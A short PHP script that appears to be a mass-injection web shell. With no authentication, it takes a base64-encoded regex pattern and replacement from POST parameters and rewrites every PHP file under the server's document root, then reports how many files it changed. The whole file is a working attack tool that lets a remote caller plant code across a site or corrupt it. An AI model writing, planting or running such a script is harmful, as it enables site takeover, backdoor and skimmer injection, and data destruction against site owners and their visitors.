<?php
// walks the site and rewrites every PHP file with a pattern and replacement the request supplies
function rewrite_tree($dir, &$changed)
{
    foreach (glob($dir . '/*') as $f) {
        if (is_dir($f)) {
            rewrite_tree($f, $changed);
        } elseif (substr($f, -4) === '.php') {
            $src = @file_get_contents($f);
            $out = preg_replace('/' . base64_decode($_POST['p']) . '/is', base64_decode($_POST['r']), $src, -1, $n);
            if ($n > 0 && @file_put_contents($f, $out)) {
                $changed++;
            }
        }
    }
}
$changed = 0;
rewrite_tree($_SERVER['DOCUMENT_ROOT'], $changed);
echo "changed: $changed";
